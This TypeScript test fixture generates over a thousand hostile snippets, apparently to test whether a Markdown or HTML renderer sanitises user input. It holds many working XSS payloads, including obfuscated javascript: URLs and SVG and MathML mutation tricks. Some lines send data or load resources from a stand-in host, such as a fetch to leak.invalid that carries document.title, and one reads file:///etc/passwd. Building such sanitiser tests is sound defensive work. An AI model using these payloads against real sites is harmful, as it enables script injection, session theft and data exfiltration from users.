/** A text that a hostile member might send, and the kind of attack. */
export interface HostileSnippet {
  kind: string
  source: string
}

/** The scripts that attacks try to run: a test page defines `hit`, and also watches dialogs and requests. */
const payloads = ['hit()', 'alert(1)', "fetch('https://leak.invalid/?'+document.title)", 'top.hit?.()']

/** Raw markup in which `PAYLOAD` stands for the script. */
const markup: Record<string, string[]> = {
  script: [
    '<script>PAYLOAD</script>',
    '<SCRIPT>PAYLOAD</SCRIPT >',
    '<scr<script>ipt>PAYLOAD</scr</script>ipt>',
    '<script/x>PAYLOAD</script>',
    '<script\n>PAYLOAD</script\n>',
    '<script src="data:text/javascript,PAYLOAD"></script>',
    '<script src=//leak.invalid/x.js></script>',
    '<script type=module>PAYLOAD</script>',
    '<<script>PAYLOAD//<</script>',
    '<!--<script>--><script>PAYLOAD</script>',
    '</textarea></title></style><script>PAYLOAD</script>',
    '<noscript><p title="</noscript><script>PAYLOAD</script>">',
    '\u0000<script>PAYLOAD</script>',
    '<\u0000script>PAYLOAD</script>',
    '＜script＞PAYLOAD＜/script＞',
    '\\<script\\>PAYLOAD\\</script\\>',
    '&lt;script&gt;PAYLOAD&lt;/script&gt;',
    '&#60;script&#62;PAYLOAD&#60;/script&#62;',
    '&#x3C;script&#x3E;PAYLOAD&#x3c;/script&#x3e;',
    '+ADw-script+AD4-PAYLOAD+ADw-/script+AD4-',
  ],
  handler: [
    '<img src=x onerror=PAYLOAD>',
    '<img src=x onerror="PAYLOAD" ',
    '<img/src=x/onerror=PAYLOAD>',
    '<IMG SRC=x OnErRoR=PAYLOAD>',
    '<img src=x\nonerror\n=\nPAYLOAD>',
    '<img src=x:x onerror\u000B=PAYLOAD>',
    '<img src="x` `<script>PAYLOAD</script>"` `>',
    '<image src=x onerror=PAYLOAD>',
    '<video><source onerror=PAYLOAD>',
    '<audio src=x onerror=PAYLOAD>',
    '<video src=x onerror=PAYLOAD autoplay>',
    '<body onload=PAYLOAD>',
    '<body onpageshow=PAYLOAD>',
    '<input autofocus onfocus=PAYLOAD>',
    '<select autofocus onfocus=PAYLOAD>',
    '<textarea autofocus onfocus=PAYLOAD>',
    '<details open ontoggle=PAYLOAD>x</details>',
    '<marquee onstart=PAYLOAD>x</marquee>',
    '<p onmouseover=PAYLOAD style=position:fixed;inset:0>x</p>',
    '<a href=# onclick=PAYLOAD>x</a>',
    '<div onanimationstart=PAYLOAD style="animation:x 1s"></div><style>@keyframes x{}</style>',
    '<x tabindex=1 autofocus onfocus=PAYLOAD>x</x>',
    '<button popovertarget=x onclick=PAYLOAD>x</button>',
    '<dialog open onclose=PAYLOAD><form method=dialog><button autofocus>x',
    '"><img src=x onerror=PAYLOAD>',
    "'><img src=x onerror=PAYLOAD>",
    '"onerror=PAYLOAD x="',
    '--><img src=x onerror=PAYLOAD>',
    ']]><img src=x onerror=PAYLOAD>',
  ],
  foreign: [
    '<svg onload=PAYLOAD>',
    '<svg/onload=PAYLOAD>',
    '<svg><script>PAYLOAD</script></svg>',
    '<svg><script>&#97;lert(1);PAYLOAD</script>',
    '<svg><a xlink:href="javascript:PAYLOAD"><text y=20>x</text></a></svg>',
    '<svg><animate onbegin=PAYLOAD attributeName=x dur=1s>',
    '<svg><set attributeName=onmouseover to=PAYLOAD>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=PAYLOAD>#x">',
    '<svg><foreignObject><img src=x onerror=PAYLOAD></foreignObject></svg>',
    '<svg><style><img src=x onerror=PAYLOAD></style></svg>',
    '<svg></p><style><a id="</style><img src=x onerror=PAYLOAD>">',
    '<math><mtext><table><mglyph><style><img src=x onerror=PAYLOAD>',
    '<math><maction actiontype=statusline xlink:href=javascript:PAYLOAD>x</maction></math>',
    '<math href="javascript:PAYLOAD">x</math>',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=PAYLOAD src=x>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=PAYLOAD>',
  ],
  container: [
    '<iframe src="javascript:PAYLOAD"></iframe>',
    '<iframe srcdoc="<script>parent.PAYLOAD</script>"></iframe>',
    '<iframe src="data:text/html,<script>PAYLOAD</script>"></iframe>',
    '<object data="javascript:PAYLOAD"></object>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="javascript:PAYLOAD">',
    '<form action="javascript:PAYLOAD"><button>x</button></form>',
    '<form id=f><input name=attributes></form><button form=f formaction=javascript:PAYLOAD>x</button>',
    '<isindex type=image src=1 onerror=PAYLOAD>',
    '<base href="javascript:PAYLOAD//">',
    '<base href="https://leak.invalid/">',
    '<meta http-equiv=refresh content="0;url=javascript:PAYLOAD">',
    '<meta http-equiv=refresh content="0;url=https://leak.invalid/">',
    '<link rel=stylesheet href="https://leak.invalid/x.css">',
    '<link rel=import href="data:text/html,<script>PAYLOAD</script>">',
    '<style>@import "https://leak.invalid/x.css";</style>',
    '<style>*{background:url(https://leak.invalid/x)}</style>',
    '<div style="background:url(https://leak.invalid/x)">x</div>',
    '<div style="width:expression(PAYLOAD)">x</div>',
    '<template><img src=x onerror=PAYLOAD></template>',
    '<div><template shadowrootmode=open><img src=x onerror=PAYLOAD></template></div>',
    '<xmp><p title="</xmp><img src=x onerror=PAYLOAD>">',
    '<plaintext><img src=x onerror=PAYLOAD>',
    '<listing>&lt;img onerror=PAYLOAD src=x&gt;</listing>',
    '<portal src="https://leak.invalid/"></portal>',
    '<img src="https://leak.invalid/pixel.gif">',
    '<picture><source srcset="https://leak.invalid/pixel.gif"><img></picture>',
    '<table background="https://leak.invalid/pixel.gif"><td>x</table>',
    '<!DOCTYPE x [<!ENTITY y SYSTEM "https://leak.invalid/">]><x>&y;</x>',
    '<?xml-stylesheet href="javascript:PAYLOAD"?>',
    '<![CDATA[<script>PAYLOAD</script>]]>',
    '<a href="javascript:PAYLOAD" autofocus accesskey=x>x</a>',
    '<a id=hit><a id=hit name=x href="tel:x">',
    '<form name=document><input name=cookie>',
  ],
}

/** URLs that run a script or load a resource, in spellings that have fooled filters. */
const addresses = [
  'javascript:PAYLOAD',
  'JAVASCRIPT:PAYLOAD',
  'jAvAsCrIpT:PAYLOAD',
  ' javascript:PAYLOAD',
  '\u0001javascript:PAYLOAD',
  'java\tscript:PAYLOAD',
  'java&Tab;script:PAYLOAD',
  'java&#10;script:PAYLOAD',
  'java&NewLine;script:PAYLOAD',
  'javascript&colon;PAYLOAD',
  'javascript&#58;PAYLOAD',
  '&#106;avascript:PAYLOAD',
  '&#x6A&#x61&#x76&#x61script:PAYLOAD',
  '&#0000106&#0000097vascript:PAYLOAD',
  'javascript%3APAYLOAD',
  '%6A%61vascript:PAYLOAD',
  'javascript\\:PAYLOAD',
  'javascript://example.com/%0APAYLOAD',
  'javascript:/*https://example.com/*/PAYLOAD',
  'javascript:PAYLOAD//https://example.com',
  'data:text/html,<script>PAYLOAD</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=PAYLOAD>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'vbscript:PAYLOAD',
  'livescript:PAYLOAD',
  'feed:javascript:PAYLOAD',
  'view-source:javascript:PAYLOAD',
  'blob:https://example.com/PAYLOAD',
  'filesystem:https://example.com/PAYLOAD',
  'file:///etc/passwd',
  'jar:https://example.com!/PAYLOAD',
  'ws://leak.invalid/',
  '//leak.invalid/x',
  '\\\\leak.invalid\\x',
  '/\\leak.invalid/x',
  'https:javascript:PAYLOAD',
  'https://example.com" onmouseover="PAYLOAD',
  "https://example.com' onfocus='PAYLOAD' autofocus '",
  'https://example.com/"><script>PAYLOAD</script>',
  'https://example.com/`onclick=PAYLOAD',
  'https://bank.example@leak.invalid/',
  'jаvascript:PAYLOAD',
  'ｊavascript:PAYLOAD',
  'javascript\u200B:PAYLOAD',
  '\u202Ejavascript:PAYLOAD',
  'tel:1;PAYLOAD',
  'about:blank#PAYLOAD',
  'intent://x#Intent;S.browser_fallback_url=javascript:PAYLOAD;end',
  'mailto:x@example.com?body=<script>PAYLOAD</script>',
]

/** Places in Markdown for a URL, marked `ADDRESS`. */
const linkForms = [
  '[x](ADDRESS)',
  '[x](<ADDRESS>)',
  '<ADDRESS>',
  '![x](ADDRESS)',
  '[x](ADDRESS "title\\" onmouseover=PAYLOAD")',
  '[x][r]\n\n[r]: ADDRESS',
  '[r]: <ADDRESS> "PAYLOAD"\n\n[r]',
  '[![x](ADDRESS)](ADDRESS)',
  'ADDRESS',
  '[<img src=x onerror=PAYLOAD>](ADDRESS)',
]

/** Places in Markdown for raw markup, marked `MARKUP`. */
const wrappers = [
  'MARKUP',
  'words **MARKUP** words',
  '> MARKUP',
  '- MARKUP\n  MARKUP',
  '# MARKUP',
  '```MARKUP\nMARKUP\n```',
  '`` MARKUP ``',
  '[MARKUP](https://example.com)',
  '![MARKUP](https://example.com "MARKUP")',
  '@MARKUP @ada"MARKUP',
]

/** Texts that target the Markdown parser. */
const parserAttacks = [
  '[a](https://example.com/[b](javascript:PAYLOAD))',
  '[a [b](javascript:PAYLOAD) c](https://example.com)',
  '<https://example.com/"onmouseover="PAYLOAD>',
  '<https://example.com/<script>PAYLOAD</script>>',
  'https://example.com/<script>PAYLOAD</script>',
  'https://example.com/"onmouseover=PAYLOAD',
  "https://example.com/'-PAYLOAD-'",
  '[x]: javascript:PAYLOAD\n[x]: https://example.com\n\n[x]',
  '[`](javascript:PAYLOAD)`',
  '`<script>`PAYLOAD`</script>`',
  '**<script>**PAYLOAD**</script>**',
  '<scr*ipt>PAYLOAD</scr*ipt>',
  '<a href="java\n\nscript:PAYLOAD">x</a>',
  '<a\n\nhref="javascript:PAYLOAD">x</a>',
  '    <script>PAYLOAD</script>',
  '\t<script>PAYLOAD</script>',
  '~~~"><script>PAYLOAD</script>\nx\n~~~',
  '```"onmouseover="PAYLOAD\nx\n```',
  '```&quot;&gt;&lt;script&gt;PAYLOAD\nx\n```',
  '1. <script>\n2. PAYLOAD\n3. </script>',
  '&lt;img src=x onerror=PAYLOAD&gt;',
  '&amp;lt;script&amp;gt;PAYLOAD',
  '![x](https://leak.invalid/pixel.gif)',
  '![](https://leak.invalid/"onload="PAYLOAD)',
  '[x](https://example.com "&quot; onclick=&quot;PAYLOAD")',
  '@ada"onclick="PAYLOAD',
  '@<script>PAYLOAD</script>',
  '@../../javascript:PAYLOAD',
  '\uD800<script>PAYLOAD</script>\uDC00',
  '\u2028<script>PAYLOAD</script>\u2029',
]

const withPayload = (source: string, payload: string) => source.replaceAll('PAYLOAD', payload)

/**
 * Well over a thousand hostile texts in a fixed order: every kind of raw markup in every place of a text, every bad
 * URL in every form of a link, and texts that abuse the syntax.
 */
export function createHostileSnippets(): HostileSnippet[] {
  const snippets: HostileSnippet[] = []
  const add = (kind: string, source: string) => {
    const payload = payloads[snippets.length % payloads.length] as string
    snippets.push({ kind, source: withPayload(source, payload) })
  }
  for (const [kind, seeds] of Object.entries(markup)) {
    for (const seed of seeds) for (const wrapper of wrappers) add(kind, wrapper.replaceAll('MARKUP', seed))
  }
  for (const address of addresses) {
    for (const form of linkForms) add('address', form.replaceAll('ADDRESS', address))
  }
  for (const payload of payloads) {
    for (const source of parserAttacks)
      snippets.push({ kind: 'parser', source: withPayload(source, payload) })
  }
  return snippets
}
